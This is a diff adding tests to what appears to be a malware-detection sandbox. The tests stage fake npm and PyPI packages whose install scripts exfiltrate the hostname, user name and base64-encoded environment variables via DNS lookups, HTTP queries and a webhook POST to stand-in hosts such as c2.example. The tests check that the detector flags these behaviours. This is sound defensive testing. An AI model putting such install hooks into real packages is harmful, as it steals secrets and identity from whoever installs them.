@@ -122,6 +122,100 @@ describe('rules + sinkhole: imitation malware comes out malicious', () => {
   }, 300_000);
 });
 
+/** The evidence row of `rule` that shows `value` (decoded) and where it appeared. */
+function rowShowing(result: Report, rule: string, value: string): string {
+  const f = result.findings.find((x) => x.rule === rule);
+  return f?.evidence.find((e) => e.kind !== 'canary' && e.summary.includes(value))?.summary ?? '';
+}
+
+describe('rules + sinkhole: identity and environment leaving come out malicious (#21)', () => {
+  it('postinstall looks up <hostname>.probe.example', async () => {
+    const staged = await stageNpm({
+      name: 'host-probe',
+      scripts: { postinstall: 'node probe.js' },
+      files: {
+        'probe.js': "require('dns').lookup(require('os').hostname() + '.probe.example', () => {});\n",
+        'index.js': 'module.exports = 1;\n',
+      },
+    });
+    cleanup.push(staged.dir);
+    const { result, text } = await detonate(staged);
+    expectRules(result, text, ['identity-exfiltration']);
+    const host = result.sandbox!.persona!.hostname;
+    expect(rowShowing(result, 'identity-exfiltration', `"${host}"`), text).toMatch(new RegExp(`^DNS \\w+ lookup of ${host}\\.probe\\.example carried the hostname`));
+  }, 300_000);
+
+  it('setup.py sends host, user, kernel and cwd hex-chunked over several lookups under collect.invalid', async () => {
+    const staged = await stagePypiSdist({
+      name: 'hexprobe',
+      setupPy: `
+import getpass, os, platform, socket
+from setuptools import setup
+data = '|'.join([socket.gethostname(), getpass.getuser(), platform.release(), os.getcwd()]).encode().hex()
+for i, at in enumerate(range(0, len(data), 60)):
+    try:
+        socket.gethostbyname('%s.%d.t.collect.invalid' % (data[at:at + 60], i))
+    except OSError:
+        pass
+setup(name='hexprobe', version='1.0.0', py_modules=['hexprobe'])
+`,
+      files: { 'hexprobe.py': 'VALUE = 1\n' },
+    });
+    cleanup.push(staged.dir);
+    const { result, text } = await detonate(staged);
+    expectRules(result, text, ['identity-exfiltration']);
+    const ids = result.findings.filter((f) => f.rule === 'identity-exfiltration');
+    expect(ids.map((f) => f.title), text).toEqual([expect.stringMatching(/^Sends the machine's identity \(.*hostname.*user name.*\) to collect\.invalid$/)]);
+    expect(rowShowing(result, 'identity-exfiltration', `"${result.sandbox!.persona!.user}"`), text).toMatch(/^DNS \w+ lookup of [0-9a-f]+\.\d+\.t\.collect\.invalid carried .*\(hex/);
+    // The lookups are one network finding with a row each, not one finding per name.
+    const lookups = result.findings.filter((f) => f.rule === 'network-activity' && f.title.includes('collect.invalid'));
+    expect(lookups, text).toHaveLength(1);
+  }, 300_000);
+
+  it('postinstall sends base64 JSON of the environment in a URL query', async () => {
+    const staged = await stageNpm({
+      name: 'env-query',
+      scripts: { postinstall: 'node q.js' },
+      files: {
+        'q.js': "const d = Buffer.from(JSON.stringify(process.env)).toString('base64');\nrequire('http').get('http://c2.example/p?d=' + encodeURIComponent(d), (r) => r.resume()).on('error', () => {});\n",
+        'index.js': 'module.exports = 1;\n',
+      },
+    });
+    cleanup.push(staged.dir);
+    const { result, text } = await detonate(staged);
+    expectRules(result, text, ['environment-exfiltration', 'credential-exfiltration']);
+    const env = result.findings.find((f) => f.rule === 'environment-exfiltration')!;
+    expect(env.severity).toBe('critical');
+    expect(env.evidence.find((e) => e.kind === 'canary')?.summary, text).toMatch(/PATH.*HOME|HOME.*PATH/);
+    expect(rowShowing(result, 'environment-exfiltration', 'c2.example/p?d='), text).toMatch(/^HTTP GET c2\.example\/p\?d=.* \(path\) carried the process environment \(.*base64/);
+  }, 300_000);
+
+  it('postinstall POSTs the user name to a webhook-shaped path on hooks.example over HTTPS', async () => {
+    const staged = await stageNpm({
+      name: 'hook-post',
+      scripts: { postinstall: 'node hook.js' },
+      files: {
+        'hook.js': [
+          "const os = require('os');",
+          "const body = JSON.stringify({ content: 'installed by ' + os.userInfo().username });",
+          "const req = require('https').request({ host: 'hooks.example', method: 'POST', path: '/api/webhooks/112233445566778899/Xy7-abcdefghijklmnopqrstuvwxyz012345', headers: { 'content-type': 'application/json' } }, (r) => r.resume());",
+          "req.on('error', () => {});",
+          'req.end(body);',
+          '',
+        ].join('\n'),
+        'index.js': 'module.exports = 1;\n',
+      },
+    });
+    cleanup.push(staged.dir);
+    const { result, text } = await detonate(staged);
+    expectRules(result, text, ['identity-exfiltration', 'exfiltration-channel']);
+    const user = result.sandbox!.persona!.user;
+    expect(rowShowing(result, 'identity-exfiltration', `"${user}"`), text).toMatch(/^HTTPS POST hooks\.example\/api\/webhooks\/.* \(body\) carried the user name/);
+    const channel = result.findings.find((f) => f.rule === 'exfiltration-channel')!;
+    expect([channel.severity, channel.title], text).toEqual(['critical', 'Sends to a Discord webhook (hooks.example) during install']);
+  }, 300_000);
+});
+
 describe('rules + sinkhole: real packages that try to download binaries stay benign', () => {
   for (const spec of ['esbuild@0.24.0', 'bcrypt@5.1.1', 'core-js@3.39.0']) {
     it(spec, async () => {
